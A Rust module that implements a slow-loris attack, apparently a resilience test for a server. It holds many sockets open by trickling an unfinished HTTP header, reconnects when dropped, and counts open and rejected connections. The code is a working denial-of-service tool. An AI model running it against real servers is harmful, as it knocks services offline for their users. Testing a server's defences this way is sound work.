//! Callers that never finish their head (slow loris), and come back when they are thrown out.

use super::Door;
use std::sync::Arc;
use std::sync::atomic::{AtomicUsize, Ordering};
use std::thread::JoinHandle;
use std::time::Duration;
use tokio::io::{AsyncReadExt as _, AsyncWriteExt as _};
use tokio::task::JoinSet;
use tokio_util::sync::CancellationToken;

/// Between two bytes of a head.
const BYTE_EVERY: Duration = Duration::from_secs(2);
/// How many sockets are opened in one go.
const OPENED_AT_ONCE: usize = 20;

/// The attack, on a thread of its own until it is dropped.
#[derive(Debug)]
pub(crate) struct Attack {
    thread: Option<JoinHandle<()>>,
    stop: CancellationToken,
    counts: Arc<Counts>,
}

#[derive(Debug, Default)]
struct Counts {
    open: AtomicUsize,
    thrown_out: AtomicUsize,
}

impl Attack {
    /// Keeps `sockets` open against `door`.
    pub(crate) fn start(door: &Door, sockets: usize) -> anyhow::Result<Self> {
        let stop = CancellationToken::new();
        let counts = Arc::new(Counts::default());
        let runtime = tokio::runtime::Builder::new_current_thread().enable_all().build()?;
        let thread = std::thread::spawn({
            let (door, stop, counts) = (door.clone(), stop.clone(), Arc::clone(&counts));
            move || {
                runtime.block_on(async move {
                    let mut attackers = JoinSet::new();
                    for socket in 0..sockets {
                        let (door, counts) = (door.clone(), Arc::clone(&counts));
                        attackers.spawn(async move {
                            loop {
                                dawdle(&door, &counts).await;
                            }
                        });
                        // A few at a time: what is measured is sockets that are open and not their opening.
                        if socket % OPENED_AT_ONCE == 0 {
                            tokio::time::sleep(Duration::from_millis(2)).await;
                        }
                    }
                    stop.cancelled().await;
                });
            }
        });
        Ok(Self {
            thread: Some(thread),
            stop,
            counts,
        })
    }

    pub(crate) fn open(&self) -> usize {
        self.counts.open.load(Ordering::Relaxed)
    }

    pub(crate) fn thrown_out(&self) -> usize {
        self.counts.thrown_out.load(Ordering::Relaxed)
    }
}

impl Drop for Attack {
    fn drop(&mut self) {
        self.stop.cancel();
        if let Some(thread) = self.thread.take() {
            drop(thread.join());
        }
    }
}

/// One connection, to its end.
async fn dawdle(door: &Door, counts: &Counts) {
    let Ok(mut stream) = door.connect().await else {
        tokio::time::sleep(BYTE_EVERY).await;
        return;
    };
    counts.open.fetch_add(1, Ordering::Relaxed);
    let head = format!("GET /v1/x HTTP/1.1\r\nHost: {}\r\nX-Slow: ", door.addr);
    let mut next: &[u8] = head.as_bytes();
    while stream.write_all(next).await.is_ok() {
        next = b"a";
        let mut answer = [0; 512];
        // Whatever is said to us, the other end is about to close.
        if tokio::time::timeout(BYTE_EVERY, stream.read(&mut answer)).await.is_ok() {
            break;
        }
    }
    counts.open.fetch_sub(1, Ordering::Relaxed);
    counts.thrown_out.fetch_add(1, Ordering::Relaxed);
}
